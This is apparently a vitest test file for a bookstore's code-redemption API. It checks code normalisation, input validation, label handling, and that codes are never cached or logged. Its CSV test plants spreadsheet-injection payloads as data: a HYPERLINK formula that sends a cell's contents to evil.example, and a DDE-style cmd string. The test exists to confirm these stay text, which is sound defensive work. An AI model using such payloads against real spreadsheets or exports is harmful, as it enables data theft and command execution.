// Review of issue 46 (bookstore codes): what a person or a script types. A code as people paste it
// (from a PDF, an e-mail, a phone's keyboard: other dashes, invisible characters, full-width
// letters) is the code; what is not a code is refused before any lookup and not counted, however
// long. A batch's label is the key the invoices are grouped by, so labels that look the same are
// the same label; a label or a school's name made to run as a formula stays text in the CSV. The
// create answer, the only one carrying the codes, is never cached, and no log line carries a code.
import { eq } from "drizzle-orm";
import { afterEach, describe, expect, it, vi } from "vitest";
import { parseCsv } from "#shared/csv.ts";
import { CODE_FORMAT_ERROR } from "#shared/rules/code-format.ts";
import { auditLog, codeBatches, rateLimits } from "../../workers/db/schema.ts";
import { codesApi, makeBatch as madeByApi, ownBook, uniqueLabel } from "./code-batch-fixtures.ts";
import { freshIp, makeBatch, redeem, schoolWithCoordinator } from "./code-redeem-fixtures.ts";
import { adminForTheFile } from "./fixtures-suite.ts";
import { api, client, createBook, createSchool, db, errorBody, okBody } from "./helpers.ts";

const admin = adminForTheFile();

afterEach(() => vi.restoreAllMocks());

describe("a code as people type and paste it", () => {
  it("lower case, spaces, every kind of dash, invisible characters, full-width letters: the code", async () => {
    const book = await createBook({ title: `Typed ${crypto.randomUUID().slice(0, 8)}` });
    const { codes } = await makeBatch([book.id], { count: 8 });
    const { coordinator } = await schoolWithCoordinator();
    const fullWidth = (text: string) => text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
    const typed = [
      (code: string) => ` ${code.toLowerCase().replaceAll("-", " ")}\u00a0`,
      (code: string) => code.replaceAll("-", "\u2011"), // non-breaking hyphen (word processors)
      (code: string) => code.replaceAll("-", "\u2010"), // hyphen
      (code: string) => code.replaceAll("-", "\u2212"), // minus sign
      (code: string) => code.replaceAll("-", "-\u200b"), // zero-width space (PDFs break lines there)
      (code: string) => code.replaceAll("-", "\u00ad"), // soft hyphen
      (code: string) => `\u200e${code}\ufeff`, // a direction mark and a byte-order mark around it
      fullWidth, // a phone's or an East Asian keyboard's full-width letters and dashes
    ];
    for (const [i, variant] of typed.entries()) {
      const answer = await redeem(coordinator.cookie, { code: variant(codes[i]!) });
      expect(answer.status, JSON.stringify(variant(codes[i]!))).toBe(200);
    }
  });

  it("what is not a code, however long, is refused on the field before any lookup and never counted", async () => {
    const { coordinator } = await schoolWithCoordinator();
    const ip = freshIp();
    const notCodes = [
      "A".repeat(100_000),
      `${" ".repeat(99_000)}LECT-AAAA-AAAA-AAAA-AAAA`,
      "LECT-AAAA-AAAA-AAAA-AAA0",
      "LECT-AAAA-AAAA-AAAA-AAAI",
      "LECT-AAAA-AAAA-AAAA-AAAA-A",
      "",
      "💥".repeat(16),
    ];
    for (const code of notCodes) {
      const answer = await redeem(coordinator.cookie, { code }, { ip });
      expect(answer.status, code.slice(0, 30)).toBe(400);
      expect(await errorBody(answer)).toMatchObject({ error: CODE_FORMAT_ERROR, field: "code" });
    }
    for (const code of [12, null, ["LECT-AAAA-AAAA-AAAA-AAAA"], { code: "x" }]) {
      const answer = await api("/api/codes/redeem", { body: { code }, cookie: coordinator.cookie, ip });
      expect(answer.status).toBe(400);
    }
    expect(
      await db()
        .select()
        .from(rateLimits)
        .where(eq(rateLimits.key, `code:ip:${ip}`)),
    ).toHaveLength(0);
  });
});

describe("a batch's label, the key its invoices are grouped by", () => {
  it("labels that look the same are one label: invisible characters, doubled spaces, composed or not", async () => {
    const name = uniqueLabel("Librería");
    const book = await ownBook();
    const looksTheSame = [name, name.replace(" ", "\u200b "), name.replace(" ", "  "), name.normalize("NFD"), `\u2060${name}`];
    for (const label of looksTheSame) await madeByApi(admin.cookie, { label, bookIds: [book.id], count: 1 });
    const { batches, labels } = await okBody(codesApi(admin.cookie).batches.$get({ query: { label: name } }));
    expect(batches).toHaveLength(looksTheSame.length);
    expect(labels.filter((totals) => totals.label.normalize("NFKC").replace(/[\s\u200b\u2060]/g, "") === name.replace(/\s/g, ""))).toEqual([
      { label: name, batches: looksTheSame.length, issued: looksTheSame.length, redeemed: 0, revoked: 0 },
    ]);
    // The filter finds it typed either way.
    const typed = await okBody(codesApi(admin.cookie).batches.$get({ query: { label: ` ${name.normalize("NFD")}\u200b ` } }));
    expect(typed.batches).toHaveLength(looksTheSame.length);
  });

  it("is refused with control characters, line breaks, more than 80 characters, or only spaces and invisible ones", async () => {
    const book = await ownBook();
    const base = { bookIds: [book.id], days: 30, count: 1 };
    for (const label of ["Shop\u0007", "Shop\nTwo", "x".repeat(81), "  ", "\u200b\u200b", `${"x".repeat(80)}\u200b `]) {
      const answer = await api("/api/codes/batches", { body: { ...base, label }, cookie: admin.cookie });
      if (label.endsWith("\u200b ")) {
        // 80 visible characters and an invisible one are 80 characters.
        expect(answer.status, JSON.stringify(await answer.clone().json())).toBe(201);
        continue;
      }
      expect(answer.status, JSON.stringify(label)).toBe(400);
      expect(await errorBody(answer)).toMatchObject({ field: "label" });
    }
  });
});

describe("a batch's other inputs, as a script sends them", () => {
  it("counts, seats and book ids of the wrong shape, provisional books; today is a day that has not passed", async () => {
    const book = await ownBook();
    const provisional = await createBook({ title: `Provisional ${crypto.randomUUID().slice(0, 8)}`, provisional: true });
    const label = uniqueLabel("Shapes");
    const base = { label, bookIds: [book.id], days: 30, count: 1 };
    const cases: [Record<string, unknown>, string][] = [
      [{ ...base, count: 1.5 }, "count"],
      [{ ...base, count: "5" }, "count"],
      [{ ...base, count: -1 }, "count"],
      [{ ...base, count: 1e308 }, "count"],
      [{ ...base, seats: -1 }, "seats"],
      [{ ...base, seats: "30" }, "seats"],
      [{ ...base, seats: 2.5 }, "seats"],
      [{ ...base, bookIds: [provisional.id] }, "bookIds"],
      [{ ...base, bookIds: Array.from({ length: 10_000 }, (_, i) => i + 1) }, "bookIds"],
      [{ ...base, bookIds: [0] }, "bookIds.0"],
      [{ ...base, bookIds: [-book.id] }, "bookIds.0"],
      [{ ...base, bookIds: [book.id + 0.5] }, "bookIds.0"],
      [{ ...base, bookIds: [{ id: book.id }] }, "bookIds.0"],
      [{ ...base, bookIds: book.id }, "bookIds"],
      [{ ...base, days: null, endsOn: "2026-13-01" }, "endsOn"],
      [{ ...base, redeemBy: "2026-11-29T00:00:00Z" }, "redeemBy"],
    ];
    for (const [body, field] of cases) {
      const answer = await api("/api/codes/batches", { body, cookie: admin.cookie });
      expect(answer.status, JSON.stringify(body).slice(0, 120)).toBe(400);
      expect(await errorBody(answer), JSON.stringify(body).slice(0, 120)).toMatchObject({ field });
    }
    expect(await db().select().from(codeBatches).where(eq(codeBatches.label, label))).toHaveLength(0);
    // Today, in UTC, is not in the past; seats null is no limit.
    const today = new Date().toISOString().slice(0, 10);
    const made = await api("/api/codes/batches", {
      body: { ...base, days: null, endsOn: today, redeemBy: today, seats: null },
      cookie: admin.cookie,
    });
    expect(made.status).toBe(201);
    expect(await made.json()).toMatchObject({ batch: { endsOn: today, redeemBy: today, seats: null } });
  });
});

describe("formulas in what the redemptions CSV carries", () => {
  it("a label, a school's name and a title made to run as formulas stay text", async () => {
    const formula = `=HYPERLINK("https://evil.example/?"&A1,"Click") ${crypto.randomUUID().slice(0, 6)}`;
    const book = await createBook({ title: `@SUM(1+1) ${crypto.randomUUID().slice(0, 6)}` });
    const school = await createSchool({ name: `+cmd|' /C calc'!A0 ${crypto.randomUUID().slice(0, 6)}` });
    const made = await madeByApi(admin.cookie, { label: formula, bookIds: [book.id], count: 1 });
    await okBody(
      client({ cookie: admin.cookie, ip: freshIp() }).api.codes.redeem.$post({ json: { code: made.codes[0]!, schoolId: school.id } }),
    );
    const file = await api(`/api/codes/redemptions.csv?batchId=${made.batch.id}`, { cookie: admin.cookie });
    expect(file.status).toBe(200);
    const text = await file.text();
    const [row] = parseCsv(text);
    expect(row).toMatchObject({ label: `'${formula}`, school: `'${school.name}`, title: `'${book.title}` });
    for (const line of text.split("\r\n")) expect(line).not.toMatch(/(^|,)"?[=+@-]/);
  });
});

describe("the answer carrying the codes", () => {
  it("is never cached, and no log line or audit entry carries a code", async () => {
    const lines: string[] = [];
    for (const method of ["log", "info", "warn", "error", "debug"] as const)
      vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
        lines.push(args.map(String).join(" "));
      });
    const book = await ownBook();
    const answer = await api("/api/codes/batches", {
      body: { label: uniqueLabel(), bookIds: [book.id], days: 30, count: 5 },
      cookie: admin.cookie,
    });
    expect(answer.status).toBe(201);
    expect(answer.headers.get("Cache-Control")).toContain("no-store");
    const { batch, codes } = (await answer.json()) as { batch: { id: number }; codes: string[] };
    // A redemption, a wrong code, a refused withdrawal by code: their log lines too.
    const school = await createSchool();
    await api("/api/codes/redeem", { body: { code: codes[0], schoolId: school.id }, cookie: admin.cookie, ip: freshIp() });
    await api("/api/codes/redeem", { body: { code: codes[0], schoolId: school.id }, cookie: admin.cookie, ip: freshIp() });
    await api("/api/codes/revoke", { body: { code: codes[0] }, cookie: admin.cookie });
    const compact = codes.map((code) => code.replaceAll("-", "").slice(4));
    for (const line of lines) for (const code of compact) expect(line).not.toContain(code.slice(0, 8));
    const entries = await db()
      .select()
      .from(auditLog)
      .where(eq(auditLog.entityId, String(batch.id)));
    const stored = JSON.stringify([entries, await db().select().from(codeBatches).where(eq(codeBatches.id, batch.id))]);
    for (const code of compact) expect(stored).not.toContain(code.slice(0, 8));
  });
});
